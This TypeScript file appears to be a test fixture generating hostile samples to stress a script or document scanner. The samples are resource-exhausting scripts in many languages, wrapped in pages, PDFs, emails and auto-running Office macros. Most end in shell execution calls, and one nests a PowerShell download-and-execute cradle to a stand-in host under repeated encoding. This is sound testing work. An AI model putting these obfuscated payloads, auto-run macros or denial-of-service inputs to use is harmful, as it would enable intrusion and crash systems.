/** Small programs that ask for much: texts and lists that grow, searches in them, and loops without end. */
import { pdf } from '../samples.ts'
import { macroDocument, writeVba } from '../vba-writer.ts'
import { writeXlm } from '../xlm-writer.ts'
import { writeZip } from '../zip-writer.ts'
import type { HostileRow } from './row.ts'

const text = (source: string) => () => Buffer.from(source, 'latin1')
const row = (name: string, fileName: string, create: () => Buffer): HostileRow => ({ name, fileName, create })

/** 16 million characters. */
const GROWN = `var s='a';for(var i=0;i<24;i++){s=s+s}`
const START = `new ActiveXObject('WScript.Shell').Run(x);`

const JAVASCRIPT: Readonly<Record<string, string>> = {
  'a search from the end in a grown text': `${GROWN} var x=s.lastIndexOf(s.substring(0,4000000)+'b')`,
  'a search in a grown text': `${GROWN} var x=s.indexOf(s.substring(0,8000000)+'b')`,
  'a grown text in capitals, again and again': `${GROWN} for(var j=0;j<100000;j++){var x=s.toUpperCase()}`,
  'a grown text trimmed, again and again': `${GROWN} for(var j=0;j<100000;j++){var x=(' '+s).trim()}`,
  'a grown text as a number': `${GROWN} for(var j=0;j<100000;j++){var x=s-1;x=parseInt(s)}`,
  'a grown text taken apart': `${GROWN} var x=[...s];x=s.split('');x=s.split('').reverse().join('')`,
  'a grown text decoded': `${GROWN} for(var j=0;j<100;j++){var x=unescape(s.replace(/a/g,'%u4141'));x=decodeURIComponent(s)}`,
  'a pattern that tries everything': `var s='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!';var x=/^(a+)+$/.test(s);x=s.replace(/(a|aa)+$/,'')`,
  'a list that doubles': `var a=[1];for(var i=0;i<40;i++){a=a.concat(a)} var x=a.sort().reverse().join('')`,
  'a list set far away': `var a=[];for(var i=0;i<9999999;i++){a[i*97]=a.length} for(var k in a){var x=k}`,
  'a loop without end': `for(;;){var x=String.fromCharCode(65)+x}`,
  'loops in loops': `for(var a=0;a<9999;a++)for(var b=0;b<9999;b++)for(var c=0;c<9999;c++){var x=a+b+c}`,
  'a function that calls itself twice': `function f(n){return n<2?'a':f(n-1)+f(n-2)} var x=f(40);${START}`,
  'a text that is run and grows': `var s='var s=1;';for(var i=0;i<20;i++){s=s+s} for(var j=0;j<99;j++)eval(s)`,
  'a text in lists that hold each other, as JSON': `var s='a';for(var i=0;i<20;i++){s=s+s} for(i=0;i<18;i++){s=[s,s]} var x=JSON.stringify(s)`,
  'objects in objects': `var o={};for(var i=0;i<999999;i++){o={a:o,b:o}} var x=JSON.stringify(o)`,
  'a text replaced, again and again': `${GROWN} for(var j=0;j<9999;j++){s=s.replace('a','bb').split('b').join('a')}`,
  'long keys of one length': `var s='a';for(var i=0;i<15;i++){s=s+s} var o={},l=[];for(i=0;i<2500;i++){o[s+(10000+i)]=i;l.push(s+(10000+i))} for(i=0;i<2500;i++){var x=o[s+(10000+i)]+l.indexOf(s+i)+new Set(l)}`,
  'long texts of one length in branches': `var s='a';for(var i=0;i<18;i++){s=s+s} var x='';${Array.from({ length: 70 }, (_, i) => `if(WScript.Arguments(0)==${i})x=s+${100 + i};`).join('')}${START}`,
  'a repeated text': `var x='ab'.repeat(200000000)+'c'.padEnd(500000000,'d');for(var j=0;j<99;j++)x=x.substr(1)`,
}

const LONG_JAVASCRIPT: Readonly<Record<string, () => string>> = {
  'brackets in brackets': () => `var x=${'('.repeat(400_000)}1${')'.repeat(400_000)};${START}`,
  'a sum of a million texts': () => `var x=${"'a'+".repeat(1_000_000)}'b';${START}`,
  'a list of two million numbers': () =>
    `var a=[${'65,'.repeat(2_000_000)}66];var x=String.fromCharCode.apply(null,a);${START}`,
  'a million functions': () => `${'function f(){return f}\n'.repeat(300_000)}${START}`,
  'escapes without end': () => `var x='${'\\x41\\u0042'.repeat(800_000)}';eval(x)`,
  'braces that do not close': () => `if(1){`.repeat(900_000),
  'templates in templates': () => `var x=${'`${'.repeat(100_000)}1${'}`'.repeat(100_000)};${START}`,
}

const inPage = (source: string) => Buffer.from(`<!DOCTYPE html><html><body><script>${source}</script></body></html>`)
const inDrawing = (source: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${source}]]></script></svg>`)
const inPdf = (source: string) =>
  pdf([
    '<< /Type /Catalog /OpenAction 2 0 R /Pages 3 0 R >>',
    `<< /S /JavaScript /JS <${Buffer.from(source).toString('hex')}> >>`,
    '<< /Type /Pages /Kids [] /Count 0 >>',
  ])
const inMail = (source: string, name: string) =>
  Buffer.from(
    'From: a@example.com\r\nTo: b@example.com\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n' +
      'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nHello.\r\n--x\r\n' +
      `Content-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n` +
      `Content-Disposition: attachment; filename="${name}"\r\n\r\n` +
      `${Buffer.from(source).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n--x--\r\n`,
  )
const WRAPPERS: readonly [string, string, (source: string) => Buffer][] = [
  ['a script', 'a.js', (source) => Buffer.from(source)],
  ['a page', 'a.html', inPage],
  ['a drawing', 'a.svg', inDrawing],
  ['a PDF', 'a.pdf', inPdf],
  ['a mail', 'a.eml', (source) => inMail(source, 'a.js')],
]

/** Each program in one container, and the first in all of them. */
function* javascript(): Generator<HostileRow> {
  const all = [...Object.entries(JAVASCRIPT).map(([name, source]) => [name, () => source] as const)]
  for (const [index, [name, source]] of [...all, ...Object.entries(LONG_JAVASCRIPT)].entries()) {
    const wrappers = index === 0 ? WRAPPERS : [WRAPPERS[index % WRAPPERS.length] ?? WRAPPERS[0]]
    for (const wrapper of wrappers)
      if (wrapper) yield row(`JavaScript in ${wrapper[0]}: ${name}`, wrapper[1], () => wrapper[2](source()))
  }
}

const GROWN_BASIC = 's = "a"\r\nFor i = 1 To 24\r\ns = s & s\r\nNext\r\n'
/** A million characters, the longest text that is evaluated. */
const SHORTER_BASIC = 's = "a"\r\nFor i = 1 To 19\r\ns = s & s\r\nNext\r\n'
const BASIC: Readonly<Record<string, string>> = {
  'a search in a grown text': `${GROWN_BASIC}x = InStr(s, Left(s, 8000000) & "b")\r\nx = InStrRev(s, Left(s, 8000000) & "b")\r\n`,
  'a grown text replaced, again and again': `${GROWN_BASIC}For j = 1 To 99999\r\ns = Replace(s, "a", "ab")\r\nx = UCase(s) & StrReverse(s)\r\nNext\r\n`,
  'a grown text taken apart': `${GROWN_BASIC}For j = 1 To 999\r\na = Split(s, "a")\r\nx = Join(a, "bb")\r\nNext\r\n`,
  'a grown text letter by letter': `${GROWN_BASIC}For j = 1 To Len(s)\r\nx = x & Chr(Asc(Mid(s, j, 1)) + 1)\r\nNext\r\n`,
  'a loop without end': 'Do While True\r\nx = x & Chr(65)\r\nLoop\r\n',
  'a search for a part that nearly matches': `${GROWN_BASIC}t = Left(s, 300000)\r\nt = t & "b" & t\r\nFor j = 1 To 999\r\nx = InStr(s, t) & InStrRev(s, t)\r\nx = Replace(s, t, "")\r\nNext\r\n`,
  'a list of long texts filtered': `${SHORTER_BASIC}Dim a(199999)\r\nFor i = 0 To 20000\r\na(i) = s\r\nNext\r\nFor j = 1 To 999\r\nx = Join(Filter(a, "b"), s)\r\nNext\r\n`,
  'a long text compared and calculated with': `${SHORTER_BASIC}For j = 1 To 999999\r\nIf s = 1 Then x = s - 1\r\nNext\r\n`,
  'a collection read by number': `Set c = New Collection\r\nFor i = 1 To 100000\r\nc.Add Space(i)\r\nNext\r\nFor j = 1 To 100000\r\nx = x & c(j)\r\nNext\r\n`,
  'a dictionary of long keys': `${SHORTER_BASIC}Set d = CreateObject("Scripting.Dictionary")\r\nFor j = 1 To 99999\r\nd(s & j) = s\r\nx = Join(d.Keys, s)\r\nNext\r\n`,
  'matches replaced by long texts': `${SHORTER_BASIC}Set r = CreateObject("VBScript.RegExp")\r\nr.Global = True\r\nr.Pattern = "a|b|c|d|aa+"\r\nFor j = 1 To 9999\r\nx = r.Replace(s, s)\r\nNext\r\n`,
  'texts that are executed': `${SHORTER_BASIC}For j = 1 To 9999\r\nExecute "x = """ & s & j & """"\r\nExecuteGlobal s & j\r\nNext\r\n`,
  'procedures that call each other': `x = f(40)\r\nEnd Sub\r\nFunction f(n)\r\nIf n < 2 Then f = "a" Else f = f(n - 1) & f(n - 2)\r\nEnd Function\r\nSub g()\r\n`,
  'a list that grows': 'Dim a()\r\nFor i = 1 To 9999999\r\nReDim Preserve a(i)\r\na(i) = Space(1000)\r\nNext\r\n',
}
const RUN_BASIC = 'CreateObject("WScript.Shell").Run x\r\n'
const procedure = (name: string, source: string) => `Sub ${name}()\r\n${source}${RUN_BASIC}End Sub\r\n`
const workbook = (source: string) =>
  writeZip(
    Object.entries({
      '[Content_Types].xml':
        '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      '_rels/.rels': '<Relationships/>',
      'xl/workbook.xml': '<workbook><sheets/></workbook>',
      'xl/vbaProject.bin': writeVba({ ThisWorkbook: procedure('Workbook_Open', source) }),
    }).map(([name, data]) => ({ name, data })),
  )
const oldDocument = (source: string) => writeVba({ ThisDocument: procedure('AutoOpen', source) }, { root: 'Macros' })

function* basic(): Generator<HostileRow> {
  const wrappers: readonly [string, string, (source: string) => Buffer][] = [
    ['VBScript', 'a.vbs', (source) => Buffer.from(source + RUN_BASIC)],
    ['VBA in a docm', 'a.docm', (source) => macroDocument(procedure('AutoOpen', source))],
    ['VBA in an xlsm', 'a.xlsm', workbook],
    ['VBA in a doc', 'a.doc', oldDocument],
  ]
  for (const [index, [name, source]] of Object.entries(BASIC).entries())
    for (const wrapper of [wrappers[0], wrappers[1 + (index % 3)]])
      if (wrapper) yield row(`${wrapper[0]}: ${name}`, wrapper[1], () => wrapper[2](source))
  yield row('VBA in a docm: a module of two million letters', 'a.docm', () =>
    macroDocument(procedure('AutoOpen', `x = "${'a'.repeat(900)}" & _\r\n"b"\r\n`.repeat(2_000))),
  )
}

const ROW_COUNT = 5_000
const EXCEL4: readonly HostileRow[] = [
  row('Excel 4: texts that double', 'a.xlsm', () =>
    writeXlm({
      formulas: ['"a"', ...Array.from({ length: ROW_COUNT }, (_, i) => `A${i + 1}&A${i + 1}`), '=EXEC(A99)'],
    }),
  ),
  row('Excel 4: repeated texts', 'a.xlsm', () =>
    writeXlm({
      formulas: [
        'REPT("ab",30000)',
        ...Array.from({ length: ROW_COUNT }, () => 'SUBSTITUTE(REPT("ab",30000),"a",REPT("ab",30000))'),
        'EXEC(A2)',
      ],
    }),
  ),
  row('Excel 4: a loop without end', 'a.xlsm', () =>
    writeXlm({ formulas: ['FORMULA("="&A2&CHAR(65),A2)', '"a"', 'GOTO(A1)'] }),
  ),
  row('Excel 4: a part that nearly matches', 'a.xlsm', () =>
    writeXlm({
      formulas: [
        'SET.NAME("s",REPT("a",32000))',
        'SET.NAME("t",REPT("a",8000)&"b"&REPT("a",8000))',
        ...Array.from({ length: ROW_COUNT }, () => 'SUBSTITUTE(s,t,"c")&SEARCH(t,s)'),
        'EXEC(s)',
      ],
    }),
  ),
  row('Excel 4: cells that write cells', 'a.xlsm', () =>
    writeXlm({
      formulas: Array.from(
        { length: ROW_COUNT },
        (_, i) => `FORMULA("=FORMULA(""=A${i}&A${i}"",A${i + 2})",A${i + 2})`,
      ),
    }),
  ),
  row('Excel 4: brackets in brackets', 'a.xlsm', () =>
    writeXlm({ formulas: [`EXEC(${'('.repeat(100_000)}"calc"${')'.repeat(100_000)})`] }),
  ),
]

const SHELLS: readonly HostileRow[] = [
  row(
    'batch: a variable that doubles 20,000 times',
    'a.bat',
    text(`set a=a\r\n${'set a=%a%%a%\r\n'.repeat(20_000)}start %a%\r\n`),
  ),
  row(
    'batch: parts of a long variable',
    'a.cmd',
    text(`set a=${'powershell'.repeat(800)}\r\n${'%a:~1,2%%a:p=q%'.repeat(40_000)}\r\n`),
  ),
  row('batch: loops in loops', 'a.bat', text(`${'for /l %%i in (1,1,9999999) do '.repeat(1_000)}start %%i\r\n`)),
  row('batch: labels that jump', 'a.bat', text(`${':a\r\ncall :a\r\ngoto a\r\n'.repeat(100_000)}`)),
  row('PowerShell: texts that double', 'a.ps1', text(`$a='a'\n${'$a=$a+$a\n'.repeat(5_000)}IEX $a\n`)),
  row(
    'PowerShell: a repeated text replaced',
    'a.ps1',
    text(`$a='ab'*99999999\n${"$a=$a -replace 'a','aa' -replace '(a+)+$','b'\n".repeat(3_000)}IEX $a\n`),
  ),
  row('PowerShell: formats in formats', 'a.ps1', text(`IEX ${'("{0}{0}" -f '.repeat(3_000)}'a'${')'.repeat(3_000)}\n`)),
  row('PowerShell: joined characters', 'a.ps1', text(`IEX (-join (${'[char]65,'.repeat(400_000)}[char]66))\n`)),
  row('PowerShell: ticks and brackets', 'a.ps1', text(`I\`E\`X ${'('.repeat(200_000)}'a'${')'.repeat(200_000)}\n`)),
  row('PowerShell: encoded commands in encoded commands', 'a.ps1', () => {
    let command = 'IEX (New-Object Net.WebClient).DownloadString("http://a.example/b")'
    for (let i = 0; i < 8; i++) command = `powershell -enc ${Buffer.from(command, 'utf16le').toString('base64')}`
    return Buffer.from(`${command}\n`.repeat(20))
  }),
  row('shell: a variable that doubles', 'a.sh', text(`#!/bin/sh\na=a\n${'a=$a$a\n'.repeat(20_000)}eval "$a"\n`)),
  row('shell: braces that multiply', 'a.sh', text(`#!/bin/bash\neval ${'{a,b}'.repeat(5_000)} {1..99999999}\n`)),
  row(
    'shell: commands in commands',
    'a.sh',
    text(`#!/bin/sh\neval ${'$(echo '.repeat(50_000)}a${')'.repeat(50_000)}\n`),
  ),
  row(
    'shell: replaced variables',
    'a.sh',
    text(`#!/bin/bash\na=${'ab'.repeat(50_000)}\n${'a=$'.concat('{a//a/aa}\n').repeat(5_000)}eval "$a"\n`),
  ),
  row('shell: documents that do not end', 'a.sh', text(`#!/bin/sh\n${'cat <<EOF | sh\n'.repeat(200_000)}`)),
  row('Python: texts that double', 'a.py', text(`import os\ns='a'\n${'s=s+s\n'.repeat(5_000)}os.system(s)\n`)),
  row(
    'Python: a repeated text',
    'a.py',
    text(
      `import os\ns='ab'*10**9\nfor i in range(10**9):\n  s=s.replace('a','aa')\nos.system(s)\nexec(''.join(chr(ord(c)+1) for c in s))\n`,
    ),
  ),
  row(
    'Python: a part that nearly matches',
    'a.py',
    text(
      `import os\ns='${'a'.repeat(60_000)}'\nt='${'a'.repeat(20_000)}b${'a'.repeat(20_000)}'\n${"x=s.replace(t,'')\n".repeat(3_000)}os.system(x)\n`,
    ),
  ),
  row(
    'Python: names that name each other',
    'a.py',
    text(
      `import os\n${Array.from({ length: 40_000 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join('')}os.system(a40000)\n`,
    ),
  ),
  row(
    'Python: a text in lists that hold each other',
    'a.py',
    text(`import os\na='x'*1000000\nfor i in range(18): a=[a,a]\nos.system(tuple(a))\nos.system(a[0]+a[1])\n`),
  ),
  row(
    'Python: long keys of one length',
    'a.py',
    text(
      `import os\ns='a'*30000\nd={}\nfor i in range(2000): d[s+str(10000+i)]=i\nfor i in range(2000): t=d.get(s+str(10000+i), 1)\nos.system('a'+str(t))\n`,
    ),
  ),
  row(
    'PowerShell: long keys of one length',
    'a.ps1',
    text(
      `$s='a'*30000\n$h=@{}\nfor($i=0;$i -lt 2000;$i++){$h[$s+(10000+$i)]=1}\nfor($i=0;$i -lt 2000;$i++){$t+=$h[$s+(10000+$i)]}\niex ($t+'a')\n`,
    ),
  ),
  row('Python: lists in lists', 'a.py', text(`exec(''.join(${'['.repeat(100_000)}'a'${']'.repeat(100_000)}))\n`)),
  row('Python: brackets in brackets', 'a.py', text(`exec(${'('.repeat(300_000)}'a'${')'.repeat(300_000)})\n`)),
  row(
    'Python: decoded again and again',
    'a.py',
    text(
      `import base64\nexec(${'base64.b64decode('.repeat(20_000)}"${'QUFB'.repeat(100_000)}"${')'.repeat(20_000)})\n`,
    ),
  ),
]

export const SCRIPTS: readonly HostileRow[] = [...javascript(), ...basic(), ...EXCEL4, ...SHELLS]
